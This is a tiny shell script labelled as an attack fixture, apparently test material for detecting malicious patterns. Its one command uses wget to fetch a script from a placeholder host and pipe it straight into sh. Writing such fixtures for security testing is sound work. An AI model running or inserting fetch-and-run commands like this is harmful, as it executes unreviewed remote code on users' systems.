#!/bin/sh
# attack fixture
set -e
wget -qO- https://bootstrap.example.invalid/setup.sh | sh
